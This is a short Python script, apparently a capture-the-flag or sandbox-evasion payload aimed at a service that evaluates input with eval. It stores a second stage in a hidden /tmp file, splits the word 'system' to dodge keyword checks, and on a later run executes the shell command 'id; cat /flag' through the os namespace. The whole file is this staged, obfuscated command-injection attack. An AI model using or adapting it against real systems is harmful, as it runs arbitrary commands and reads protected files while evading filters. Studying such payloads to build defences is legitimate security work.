# Staged: the first run evaluates "0" at the eval line and stores the next
# stage in /tmp; only a later run evaluates the stored text (a bare call of a
# name that the os namespace provides).
import os

STATE = "/tmp/.calc_state_a09"
env = dict(vars(os))
if os.path.exists(STATE):
    with open(STATE) as fh:
        stage = fh.read()
else:
    stage = "0"
    with open(STATE, "w") as fh:
        fh.write("sys" + "tem('id; cat /flag')")
print(eval(stage, env))
